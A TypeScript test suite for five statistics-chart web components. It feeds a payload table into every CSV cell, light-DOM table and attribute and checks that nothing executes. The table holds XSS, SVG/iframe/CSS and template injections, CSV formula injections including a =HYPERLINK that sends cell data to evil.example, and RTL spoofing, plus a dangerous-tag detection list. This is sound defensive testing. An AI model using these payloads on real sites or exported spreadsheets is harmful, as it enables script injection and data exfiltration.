// Attacks (RELIABILITY.md, "Attacks"): every payload, in every place a widget reads text from (CSV headers, band
// labels, sex / item / level / indicator labels, unit and value cells, a light-DOM <table>, and each text attribute
// listed in the widgets' static properties and custom-elements.json), in each of the five widgets. Table-driven: one
// test per payload × place × widget, named so that the count shows in the report.
//
// Each test checks that the payload
// - is rendered as text (where the widget shows that place: verbatim in the shadow root's text),
// - creates no element: the shadow root has exactly the elements it has for a neutral word in the same place
//   (`<title>`s aside: a long label is truncated with its full text in a `<title>`), no dangerous element at all
//   (img, script, iframe, foreignObject, style…), no `on*` attribute, no URL attribute that is not http(s), nothing
//   new in the light DOM or the page;
// - never sets the global sentinel `window.__pwned`;
// - stays inert in the exports: the SVG file has no such element or attribute, and no CSV cell starts like a formula.
import '@epn/widgets/define.js';
import {parseCsv, type Table} from '@epn/stats';
import type {EpnElement} from '@epn/widgets';
import {after, describe, expect, it} from '../harness.js';
import {aTimeout} from './helpers.js';

type Widget = EpnElement<unknown> & {status: string; download: (blob: Blob, name: string) => void};

const page = window as unknown as {__pwned?: unknown};
const sentinel = () => page.__pwned;
/** Cases after which the sentinel was found set (it is then cleared, so that one failure does not fail every later case). */
const pwnedBy: string[] = [];

// ---- payloads ------------------------------------------------------------------------------------------------------
const PAYLOADS: Array<[string, string]> = [
  ['<img onerror>', '<img src=x onerror=window.__pwned=1>'],
  ['<script>', '<script>window.__pwned=1</script>'],
  ['"> breaking out of an attribute, <svg onload>', '"><svg onload=window.__pwned=1>'],
  ["'> breaking out of an attribute, <svg/onload>", "'><svg/onload=window.__pwned=1>"],
  [
    '</text><foreignObject> breaking out of SVG text',
    '</text><foreignObject><img src=x onerror=window.__pwned=1></foreignObject>',
  ],
  [
    '<svg><script> SVG payload',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=1</script><animate onbegin=window.__pwned=1 attributeName=x dur=1s></animate></svg>',
  ],
  ['<iframe srcdoc>', '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'],
  ['javascript: URL', 'javascript:window.__pwned=1'],
  ['<a href=javascript:> link', '<a href="javascript:window.__pwned=1">lien</a>'],
  [
    'CSS injection',
    'red;}</style><style>:host{background:url(javascript:window.__pwned=1)}</style><p style="x:expression(window.__pwned=1)">',
  ],
  ['${…} template', '${window.__pwned=1}'],
  ['{{…}} template', "{{constructor.constructor('window.__pwned=1')()}}"],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['prototype', 'prototype'],
  ['HTML entities', '&lt;img src=x onerror=window.__pwned=1&gt;&#x3C;script&#x3E;'],
  ['CSV formula =cmd|', "=cmd|' /C calc'!A0"],
  ['CSV formula =HYPERLINK', '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez ici")'],
  ['CSV formula +', "+1+cmd|' /C calc'!A0"],
  ['CSV formula -', "-2+3+cmd|' /C calc'!A0"],
  ['CSV formula @', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['CSV formula after a tab', '\t=1+2'],
  ['very long string (5 550 characters of markup)', '<img src=x onerror=window.__pwned=1>'.repeat(150)],
  ['RTL override and RTL scripts', '\u202Egnp.exe\u202C مرحبا עברית \u2067إ\u2069'],
  ['zero-width characters', 'Zéro\u200Blargeur\u200C\u200D\u2060\uFEFFfin'],
  ['emoji (ZWJ sequences, flags)', '👩🏽‍💻 🏳️‍🌈 🇫🇷'],
];
const NEUTRAL = 'Texte neutre';
/** The same text without markup characters (`< > " ' &`), its separators kept: what a neutral value of that form gives. */
const defang = (p: string): string => p.replace(/[<>"'&]/g, 'x');

// ---- the server-side CSV files --------------------------------------------------------------------------------------
const quote = (s: string): string => `"${s.replace(/"/g, '""')}"`;
/**
 * The payload in the `annee` row of a key/value file: a text among the figures of the value column, which the
 * reading keeps numeric and records the text in an INVALID_NUMBER issue (issue 11, item 6); the card shows it.
 */
const textAmongFigures = (t: Table): string =>
  (t.rows[2]![1] as string | null) ?? t.meta.issues.find((i) => i.row === 2 && i.column === 1)!.raw!;
let stored = 0;
/** Stores a CSV body on the test server; returns the URL that serves it. */
async function serve(csv: string): Promise<string> {
  const key = `attack-${++stored}`;
  const r = await fetch(`/__epn__/put/${key}`, {method: 'POST', body: csv});
  expect(r.status, 'put').to.equal(204);
  return `/__epn__/got/${key}`;
}

// ---- places -----------------------------------------------------------------------------------------------------------
interface Place {
  /** Where the payload goes. */
  name: string;
  /** `csv`: a file at `file` (made by `csv`); `light`: a light-DOM table (rows by `rows`); `attr`: attribute `attr`. */
  kind: 'csv' | 'light' | 'attr';
  file?: 'src' | 'population-src' | 'breakdown-src';
  csv?: (cell: string) => string;
  /** For `csv` and `light` places: the cell as the parser reads it (what the widget must show). */
  read?: (t: Table) => string;
  rows?: (cell: string) => string[][];
  attr?: string;
  /** The attribute's value (default: the payload itself). */
  value?: (p: string) => string;
  /** Other attributes this place needs (given the payload). */
  with?: Record<string, string> | ((p: string) => Record<string, string>);
  /** Whether the widget shows this place's text (then it must be there, verbatim). */
  shown: boolean | ((p: string) => boolean);
}

interface WidgetCase {
  tag: string;
  /** The attributes of a widget that loads fine. */
  base: Record<string, string>;
  places: Place[];
}

/** The fixtures, served as they are by the fault server (faster than the dev server's file pipeline). */
const file = (path: string): string => `/__epn__/file/${path}`;
const SEEDS = {
  age: file('seed/inscrits-sexe-age.csv'),
  equipment: file('seed/equipement-age.csv'),
  skill: file('seed/niveau-usage-age.csv'),
  budget: file('widgets/budget-seed.csv'),
  population: file('widgets/budget-population-age.csv'),
  key: file('seed/chiffres-cles.csv'),
  breakdown: file('seed/epn-departements.csv'),
};

/** The text attributes every widget has (EpnElement's static properties), the numbers `digits`/`refresh` aside. */
const common = (chart: boolean): Place[] => [
  {name: 'attribute heading', kind: 'attr', attr: 'heading', shown: true},
  {name: 'attribute description', kind: 'attr', attr: 'description', shown: true},
  {name: 'attribute source', kind: 'attr', attr: 'source', shown: true},
  {name: 'attribute source-href', kind: 'attr', attr: 'source-href', shown: true},
  {name: 'attribute src (the address, in the error message)', kind: 'attr', attr: 'src', shown: true},
  // The charts refuse an unknown measure, saying which; the cards have no measure to choose and ignore it.
  {name: 'attribute measure', kind: 'attr', attr: 'measure', shown: chart},
  {name: 'attribute delimiter', kind: 'attr', attr: 'delimiter', shown: true},
  {name: 'attribute encoding', kind: 'attr', attr: 'encoding', shown: true},
  {name: 'attribute theme', kind: 'attr', attr: 'theme', shown: false},
  {name: 'attribute lang', kind: 'attr', attr: 'lang', shown: false},
];

/** Places of the by-band charts (`<epn-equipment-chart>`, `<epn-skill-chart>`): wide table `<rows>,-11,11-17,Total`. */
const byBand = (rowsHeader: string, other: string): Place[] => [
  {
    name: 'CSV header (first column)',
    kind: 'csv',
    csv: (p) => `${quote(p)};-11;11-17;Total\n${other};3;4;7\nTotal;5;6;11\n`,
    read: (t) => t.columns[0]!,
    shown: false,
  },
  {
    name: 'CSV band label (a column header)',
    kind: 'csv',
    csv: (p) => `${rowsHeader};${quote(p)};11-17;Total\n${other};3;4;7\nTotal;5;6;11\n`,
    read: (t) => t.columns[1]!,
    shown: true,
  },
  {
    name: `CSV row label (${rowsHeader})`,
    kind: 'csv',
    csv: (p) => `${rowsHeader};-11;11-17;Total\n${quote(p)};3;4;7\n${other};1;2;3\nTotal;5;6;11\n`,
    read: (t) => t.rows[0]![0] as string,
    shown: true,
  },
  {
    name: `light-DOM <table> row label (${rowsHeader})`,
    kind: 'light',
    rows: (p) => [
      [rowsHeader, '-11', '11-17'],
      [p, '3', '4'],
      [other, '1', '2'],
    ],
    read: (t) => t.rows[0]![0] as string,
    shown: true,
  },
  ...common(true),
  {name: 'attribute rows-column', kind: 'attr', attr: 'rows-column', shown: false},
  {name: 'attribute age-column', kind: 'attr', attr: 'age-column', shown: true},
  {name: 'attribute value-column', kind: 'attr', attr: 'value-column', shown: false},
  {name: 'attribute bands', kind: 'attr', attr: 'bands', shown: false},
];

/** A key/value label is shown whole when it has no part in parentheses (read as its unit). */
const noUnit = (p: string): boolean => !p.includes('(');

const WIDGETS: WidgetCase[] = [
  {
    tag: 'epn-age-chart',
    base: {src: SEEDS.age},
    places: [
      {
        name: 'CSV header (first column)',
        kind: 'csv',
        csv: (p) => `${quote(p)};-11;11-17\nHommes;1;2\nFemmes;3;4\n`,
        read: (t) => t.columns[0]!,
        shown: false,
      },
      {
        name: 'CSV band label (a column header)',
        kind: 'csv',
        csv: (p) => `sexe;${quote(p)};11-17\nHommes;1;2\nFemmes;3;4\n`,
        read: (t) => t.columns[1]!,
        shown: true,
      },
      {
        name: 'CSV sex label (a third row, noted)',
        kind: 'csv',
        csv: (p) => `sexe;-11;11-17\nHommes;1;2\nFemmes;3;4\n${quote(p)};5;6\n`,
        read: (t) => t.rows[2]![0] as string,
        shown: true,
      },
      {
        name: 'CSV sex label (long table)',
        kind: 'csv',
        with: {'sex-column': 'sexe', 'age-column': 'tranche', 'value-column': 'effectif'},
        csv: (p) => `sexe;tranche;effectif\nHommes;0-19;1\nFemmes;0-19;2\n${quote(p)};0-19;3\n`,
        read: (t) => t.rows[2]![0] as string,
        shown: true,
      },
      {
        name: 'light-DOM <table> band label',
        kind: 'light',
        rows: (p) => [
          ['sexe', p, '20 +'],
          ['Hommes', '1', '2'],
          ['Femmes', '3', '4'],
        ],
        read: (t) => t.columns[1]!,
        shown: true,
      },
      ...common(true),
      {name: 'attribute sex-column', kind: 'attr', attr: 'sex-column', shown: false},
      {name: 'attribute age-column', kind: 'attr', attr: 'age-column', shown: true},
      {name: 'attribute value-column', kind: 'attr', attr: 'value-column', shown: false},
      {name: 'attribute bands', kind: 'attr', attr: 'bands', shown: false},
    ],
  },
  {tag: 'epn-equipment-chart', base: {src: SEEDS.equipment}, places: byBand('equipement', 'Ordinateur')},
  {tag: 'epn-skill-chart', base: {src: SEEDS.skill}, places: byBand('niveau', 'débutant')},
  {
    tag: 'epn-budget-card',
    base: {src: SEEDS.budget},
    places: [
      {
        name: 'CSV header (first column)',
        kind: 'csv',
        csv: (p) => `${quote(p)};valeur;unite\nbudget_annuel;1050000;EUR\npopulation;1480000;habitants\n`,
        read: (t) => t.columns[0]!,
        shown: false,
      },
      {
        name: 'CSV indicator label (unknown, not shown)',
        kind: 'csv',
        csv: (p) =>
          `indicateur;valeur;unite\nbudget_annuel;1050000;EUR\npopulation;1480000;habitants\n${quote(p)};12;x\n`,
        read: (t) => t.rows[2]![0] as string,
        shown: false,
      },
      {
        name: 'CSV value cell (annee)',
        kind: 'csv',
        csv: (p) =>
          `indicateur;valeur;unite\nbudget_annuel;1050000;EUR\npopulation;1480000;habitants\nannee;${quote(p)};\n`,
        read: textAmongFigures,
        shown: true,
      },
      {
        name: 'CSV unit cell',
        kind: 'csv',
        csv: (p) => `indicateur;valeur;unite\nbudget_annuel;1050000;${quote(p)}\npopulation;1480000;habitants\n`,
        read: (t) => t.rows[0]![2] as string,
        shown: false,
      },
      // Chosen by name (`territory` holds the payload too); a name with `,` or `;` is several names, none found, and
      // the error message lists the file's territories, this one included.
      {
        name: 'population-src CSV territory label',
        kind: 'csv',
        file: 'population-src',
        with: (p) => ({territory: p, ages: '0-19'}),
        csv: (p) => `territoire;0 à 19 ans;20 ans ou plus;Total\n${quote(p)};10 000;20 000;30 000\nOrne;500;700;1200\n`,
        read: (t) => t.rows[0]![0] as string,
        shown: true,
      },
      {
        name: 'population-src CSV band label',
        kind: 'csv',
        file: 'population-src',
        with: {territory: 'Orne', ages: '0-19'},
        csv: (p) => `territoire;0 à 19 ans;${quote(p)};Total\nOrne;500;700;1200\n`,
        read: (t) => t.columns[2]!,
        shown: true,
      },
      {
        name: 'light-DOM <table> value cell (annee)',
        kind: 'light',
        rows: (p) => [
          ['indicateur', 'valeur'],
          ['budget', '1050000'],
          ['population', '1480000'],
          ['annee', p],
        ],
        read: textAmongFigures,
        shown: true,
      },
      ...common(false),
      {name: 'attribute budget', kind: 'attr', attr: 'budget', shown: true},
      {name: 'attribute population', kind: 'attr', attr: 'population', shown: true},
      {name: 'attribute registered', kind: 'attr', attr: 'registered', shown: true},
      {name: 'attribute year', kind: 'attr', attr: 'year', shown: true},
      {
        name: 'attribute population-src (the address, in the error message)',
        kind: 'attr',
        attr: 'population-src',
        shown: true,
      },
      // `territory` lists names or codes separated by `,` or `;`: the message names the first one not found.
      {
        name: 'attribute territory',
        kind: 'attr',
        attr: 'territory',
        with: {'population-src': SEEDS.population, ages: '5-74'},
        shown: (p) => !/[;,]/.test(p),
      },
      {name: 'attribute ages', kind: 'attr', attr: 'ages', shown: true},
      {
        name: 'attribute age-match',
        kind: 'attr',
        attr: 'age-match',
        with: {'population-src': SEEDS.population, territory: 'Calvados', ages: '5-74'},
        shown: true,
      },
      {
        name: 'attribute population-group',
        kind: 'attr',
        attr: 'population-group',
        with: {'population-src': SEEDS.population, territory: 'Calvados'},
        shown: true,
      },
    ],
  },
  {
    tag: 'epn-reach-chart',
    base: {src: SEEDS.age, 'population-src': SEEDS.population, 'population-area': 'Calvados'},
    places: [
      // A users' band that is not an age band: the message lists the file's bands.
      {
        name: 'CSV band label of the users (a column header)',
        kind: 'csv',
        csv: (p) => `sexe;${quote(p)};11-17\nHommes;1;2\nFemmes;3;4\n`,
        read: (t) => t.columns[1]!,
        shown: true,
      },
      // Chosen by name (`population-area` holds the payload too): found, it is named in a note; not found (a `,` or `;`
      // splits it), the message lists the file's territories, this one included.
      {
        name: 'population-src CSV territory label',
        kind: 'csv',
        file: 'population-src',
        with: (p) => ({'population-area': p}),
        csv: (p) => `territoire;0 à 19 ans;20 ans ou plus;Total\n${quote(p)};10 000;20 000;30 000\nOrne;500;700;1200\n`,
        read: (t) => t.rows[0]![0] as string,
        shown: true,
      },
      {
        name: 'population-src CSV band label',
        kind: 'csv',
        file: 'population-src',
        with: {'population-area': 'Orne'},
        csv: (p) => `territoire;0 à 19 ans;${quote(p)};Total\nOrne;500;700;1200\n`,
        read: (t) => t.columns[2]!,
        shown: true,
      },
      ...common(true),
      {
        name: 'attribute population-src (the address, in the error message)',
        kind: 'attr',
        attr: 'population-src',
        shown: true,
      },
      {name: 'attribute population-area', kind: 'attr', attr: 'population-area', shown: (p) => !/[;,]/.test(p)},
      {name: 'attribute population-group', kind: 'attr', attr: 'population-group', shown: (p) => !/[;,]/.test(p)},
      {name: 'attribute exclude', kind: 'attr', attr: 'exclude', shown: (p) => !/[;,]/.test(p)},
      {name: 'attribute scheme', kind: 'attr', attr: 'scheme', shown: true},
      {name: 'attribute age-column', kind: 'attr', attr: 'age-column', shown: true},
      {name: 'attribute sex-column', kind: 'attr', attr: 'sex-column', shown: false},
      {name: 'attribute value-column', kind: 'attr', attr: 'value-column', shown: false},
      {name: 'attribute bands', kind: 'attr', attr: 'bands', shown: false},
    ],
  },
  {
    tag: 'epn-key-figures',
    base: {src: SEEDS.key},
    places: [
      {
        name: 'CSV header (unit column)',
        kind: 'csv',
        csv: (p) => `indicateur;valeur;${quote(p)}\nvisites;100;visites\n`,
        read: (t) => t.columns[2]!,
        shown: false,
      },
      // A key's text in parentheses is read as its unit (`Budget (k€)`), so a label is shown whole when it has none.
      {
        name: 'CSV indicator label',
        kind: 'csv',
        csv: (p) => `indicateur;valeur;unite\n${quote(p)};100;visites\n`,
        read: (t) => t.rows[0]![0] as string,
        shown: noUnit,
      },
      {
        name: 'CSV unit cell',
        kind: 'csv',
        csv: (p) => `indicateur;valeur;unite\nvisites;100;${quote(p)}\n`,
        read: (t) => t.rows[0]![2] as string,
        shown: true,
      },
      {
        name: 'breakdown-src CSV row label',
        kind: 'csv',
        file: 'breakdown-src',
        csv: (p) => `departement;epn\n${quote(p)};3\nOrne;2\n`,
        read: (t) => t.rows[0]![0] as string,
        shown: true,
      },
      {
        name: 'breakdown-src CSV header (the column drawn)',
        kind: 'csv',
        file: 'breakdown-src',
        csv: (p) => `departement;${quote(p)}\nCalvados;3\nOrne;2\n`,
        read: (t) => t.columns[1]!,
        shown: noUnit,
      },
      {
        name: 'light-DOM <table> indicator label',
        kind: 'light',
        rows: (p) => [
          ['indicateur', 'valeur'],
          [p, '100'],
          ['epn', '12'],
        ],
        read: (t) => t.rows[0]![0] as string,
        shown: noUnit,
      },
      ...common(false),
      // `keys` are separated by `,` (or `;`), `labels` and `ratios` by `;`: a payload holding them is several parts.
      {name: 'attribute keys', kind: 'attr', attr: 'keys', shown: (p) => !/[;,]/.test(p)},
      {
        name: 'attribute labels (key:label)',
        kind: 'attr',
        attr: 'labels',
        value: (p) => `visites_annuelles:${p}`,
        shown: (p) => !p.includes(';'),
      },
      {
        name: 'attribute ratios (a/b:label)',
        kind: 'attr',
        attr: 'ratios',
        value: (p) => `visites_annuelles/inscrits_annuels:${p}`,
        shown: (p) => !p.includes(';'),
      },
      {
        name: 'attribute breakdown-src (the address, in the error message)',
        kind: 'attr',
        attr: 'breakdown-src',
        shown: true,
      },
      {
        name: 'attribute breakdown-column',
        kind: 'attr',
        attr: 'breakdown-column',
        with: {'breakdown-src': SEEDS.breakdown},
        shown: true,
      },
      {
        name: 'attribute breakdown-heading',
        kind: 'attr',
        attr: 'breakdown-heading',
        with: {'breakdown-src': SEEDS.breakdown},
        shown: true,
      },
    ],
  },
];

// ---- rendering -------------------------------------------------------------------------------------------------------
interface Rendered {
  el: Widget;
  root: ShadowRoot;
  /** The text the widget must show for this place (the payload, or the cell as the parser read it). */
  expected: string;
  /** Elements of the page outside the widget, before and after. */
  pageBefore: number;
  pageAfter: number;
  lightBefore: number;
  cleanup: () => void;
}

/** Renders the widget with `value` in `place`, and waits for its `epn-load` or `epn-error`. */
async function render(w: WidgetCase, place: Place, value: string): Promise<Rendered> {
  const el = document.createElement(w.tag) as Widget;
  const attrs: Record<string, string> = {
    ...w.base,
    ...(typeof place.with === 'function' ? place.with(value) : place.with),
  };
  let expected = value;
  if (place.kind === 'csv') {
    const csv = place.csv!(value);
    attrs[place.file ?? 'src'] = await serve(csv);
    expected = place.read!(parseCsv(csv));
  } else if (place.kind === 'light') {
    delete attrs['src'];
    const table = document.createElement('table');
    const rows = place.rows!(value);
    // What the widget reads: the cells' text, trimmed, as a `;` CSV (as the light-DOM reader does).
    expected = place.read!(
      parseCsv(rows.map((cells) => cells.map((c) => quote(c.trim())).join(';')).join('\n'), {delimiter: ';'}),
    );
    for (const cells of rows) {
      const tr = table.insertRow();
      for (const c of cells) tr.insertCell().textContent = c;
    }
    el.append(table);
  } else {
    attrs[place.attr!] = place.value ? place.value(value) : value;
  }
  for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
  const container = document.createElement('div');
  container.style.width = '640px';
  const pageBefore = document.querySelectorAll('*').length;
  const lightBefore = el.querySelectorAll('*').length;
  const settled = new Promise<void>((resolve) => {
    el.addEventListener('epn-load', () => resolve(), {once: true});
    el.addEventListener('epn-error', () => resolve(), {once: true});
  });
  container.append(el);
  document.body.append(container);
  const timeout = new Promise<'timeout'>((r) => setTimeout(() => r('timeout'), 8000));
  const outcome = await Promise.race([settled, timeout]);
  expect(outcome, 'the widget fired neither epn-load nor epn-error').to.not.equal('timeout');
  await el.updateComplete;
  const pageAfter = document.querySelectorAll('*').length - container.querySelectorAll('*').length - 1;
  return {el, root: el.shadowRoot!, expected, pageBefore, pageAfter, lightBefore, cleanup: () => container.remove()};
}

const DANGEROUS =
  'img, image, script, iframe, frame, object, embed, foreignObject, style, link, meta, base, form, input, audio, video, source, animate, set, use, math, template, slot';
const URL_ATTRIBUTES = /^(href|src|xlink:href|action|formaction|data|poster|srcset|srcdoc|background|ping)$/i;

/** Problems of a tree: dangerous elements, `on*` attributes, URL attributes that are not http(s). */
function problems(root: ParentNode): string[] {
  const out: string[] = [];
  for (const node of Array.from(root.querySelectorAll(DANGEROUS))) out.push(`element <${node.tagName.toLowerCase()}>`);
  for (const node of Array.from(root.querySelectorAll('*'))) {
    for (const a of Array.from(node.attributes)) {
      if (/^on/i.test(a.name)) out.push(`<${node.tagName.toLowerCase()} ${a.name}>`);
      if (URL_ATTRIBUTES.test(a.name) && !/^(https?:|blob:|#)/i.test(a.value.trim()))
        out.push(`<${node.tagName.toLowerCase()} ${a.name}="${a.value.slice(0, 40)}">`);
      if (a.name === 'style' && /url\(|expression|javascript/i.test(a.value))
        out.push(`<${node.tagName.toLowerCase()} style="${a.value.slice(0, 40)}">`);
    }
  }
  return out;
}

/** The element names of a shadow root with their counts, `<title>`s aside. */
function shape(root: ParentNode): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const n of Array.from(root.querySelectorAll('*'))) {
    const tag = n.tagName.toLowerCase();
    if (tag !== 'title') counts[tag] = (counts[tag] ?? 0) + 1;
  }
  return counts;
}

/** RFC 4180 cells of a CSV text (`;`-separated), with whether each was quoted. */
function csvCells(text: string): Array<{value: string; quoted: boolean}> {
  const cells: Array<{value: string; quoted: boolean}> = [];
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        const j = text.indexOf('"', i);
        if (j < 0) throw new Error('unterminated quote in the export');
        value += text.slice(i, j);
        if (text[j + 1] === '"') {
          value += '"';
          i = j + 2;
        } else {
          i = j + 1;
          break;
        }
      }
    } else {
      const m = /[;\r\n]/.exec(text.slice(i));
      const end = m ? i + m.index : text.length;
      value = text.slice(i, end);
      i = end;
    }
    cells.push({value, quoted});
    if (text[i] === ';') i++;
    else if (text.startsWith('\r\n', i)) i += 2;
    else if (text[i] === '\n') i++;
  }
  return cells;
}

/** The neutral rendering of each place, computed once: its state and its elements. */
const baselines = new Map<string, {status: string; shape: Record<string, number>}>();

let cases = 0;

describe('attacks: every payload × place × widget is rendered as text and runs nothing', () => {
  for (const w of WIDGETS) {
    describe(`<${w.tag}> (${w.places.length} places × ${PAYLOADS.length} payloads)`, () => {
      for (const place of w.places) {
        describe(place.name, () => {
          for (const [label, payload] of PAYLOADS) {
            cases++;
            it(`${label}`, async () => {
              const key = `${w.tag}|${place.name}`;
              if (!baselines.has(key)) {
                const b = await render(w, place, NEUTRAL);
                baselines.set(key, {status: b.el.status, shape: shape(b.root)});
                b.cleanup();
              }
              const neutral = baselines.get(key)!;
              const r = await render(w, place, payload);
              try {
                const {el, root} = r;
                expect(sentinel(), 'window.__pwned').to.equal(undefined);
                expect(problems(root), 'dangerous nodes in the shadow root').to.deep.equal([]);
                expect(el.querySelectorAll('*').length, 'light DOM unchanged').to.equal(r.lightBefore);
                expect(r.pageAfter, 'no element added to the page').to.equal(r.pageBefore);
                const now = shape(root);
                const added = (base: Record<string, number>) =>
                  Object.keys(now)
                    .filter((tag) => now[tag]! > (base[tag] ?? 0))
                    .map((tag) => `${tag}: ${base[tag] ?? 0} → ${now[tag]}`);
                if (el.status !== neutral.status || added(neutral.shape).length) {
                  // The payload's separators changed the reading (a `;` splits a list attribute, a `(…)` is a unit):
                  // compare with the same text without its markup characters.
                  const b = await render(w, place, defang(payload));
                  const [status, base] = [b.el.status, shape(b.root)];
                  b.cleanup();
                  expect(el.status, 'same state as the same text without markup').to.equal(status);
                  expect(added(base), 'elements added, compared with the same text without markup').to.deep.equal([]);
                }
                const shown = typeof place.shown === 'function' ? place.shown(payload) : place.shown;
                const text = root.textContent ?? '';
                if (shown) {
                  const at = text.includes(r.expected) || text.includes(r.expected.trim());
                  expect(
                    at,
                    `shown verbatim: ${JSON.stringify(r.expected.slice(0, 60))} in ${JSON.stringify(text.replace(/\s+/g, ' ').slice(0, 1500))}`,
                  ).to.equal(true);
                }
                // The exports hold what the widget shows: made wherever the payload is on screen.
                if (shown && el.status === 'ready') {
                  const files: Array<{blob: Blob; name: string}> = [];
                  el.download = (blob, name) => files.push({blob, name});
                  await el.exportAs('svg');
                  await el.exportAs('csv');
                  expect(
                    files.map((f) => f.name.replace(/^.*\./, '')),
                    'exports made',
                  ).to.deep.equal(['svg', 'csv']);
                  const svgText = await files[0]!.blob.text();
                  const doc = new DOMParser().parseFromString(svgText, 'image/svg+xml');
                  expect(doc.querySelector('parsererror') === null, 'the SVG export parses').to.equal(true);
                  expect(problems(doc), 'dangerous nodes in the SVG export').to.deep.equal([]);
                  const chart = root.querySelector('svg[part="chart"]');
                  if (chart && (chart.textContent ?? '').includes(r.expected)) {
                    expect(
                      (doc.documentElement.textContent ?? '').includes(r.expected),
                      'the SVG export holds the text',
                    ).to.equal(true);
                  }
                  const cells = csvCells(await files[1]!.blob.text());
                  const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c.value) && !/^-\d+(,\d+)?$/.test(c.value));
                  expect(
                    formulas.map((c) => c.value.slice(0, 40)),
                    'CSV cells that start like a formula',
                  ).to.deep.equal([]);
                  const inTables = Array.from(root.querySelectorAll('table')).some((t) =>
                    (t.textContent ?? '').includes(r.expected),
                  );
                  if (inTables) {
                    expect(
                      cells.some((c) => c.value.includes(r.expected)),
                      'the CSV export holds the text',
                    ).to.equal(true);
                  }
                }
              } finally {
                r.cleanup();
                if (sentinel() !== undefined) {
                  pwnedBy.push(`${w.tag} ${place.name} ${label}`);
                  delete page.__pwned;
                }
              }
            });
          }
        });
      }
    });
  }

  after(() => {
    // For the report: the size of the matrix.
    console.log(
      `attacks: ${cases} cases = ${PAYLOADS.length} payloads × (${WIDGETS.map((w) => `${w.places.length} ${w.tag}`).join(' + ')}) places`,
    );
  });
});

describe('attacks: afterwards', () => {
  it('the sentinel is still unset once every late event (image errors, animations) had time to fire', async () => {
    await aTimeout(500);
    expect(sentinel()).to.equal(undefined);
    expect(pwnedBy).to.deep.equal([]);
    expect(cases).to.equal(PAYLOADS.length * WIDGETS.reduce((n, w) => n + w.places.length, 0));
  });
});
